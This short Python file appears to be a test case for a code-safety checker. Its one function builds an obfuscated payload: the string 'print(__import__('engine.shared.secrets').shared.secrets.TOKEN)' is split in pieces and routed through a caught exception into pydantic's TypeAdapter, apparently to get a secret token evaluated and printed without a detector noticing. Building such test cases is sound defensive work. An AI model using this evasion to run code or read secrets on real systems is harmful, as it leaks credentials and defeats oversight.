#: channel = pydantic
#: reaches = engine
#: layer = check
#: note = a helper makes the type adapter of text that came out of an exception

from pydantic import TypeAdapter


def applied(function, values):
    return function(*values)


def caught(found):
    try:
        raise LookupError(found)
    except LookupError as error:
        return error.args[0]


async def run(context):
    parts = ["print(__imp", "ort__('engine.shared.secrets').shared.secrets.TOKEN)"]
    return str(applied(TypeAdapter, [caught("".join(parts))]))
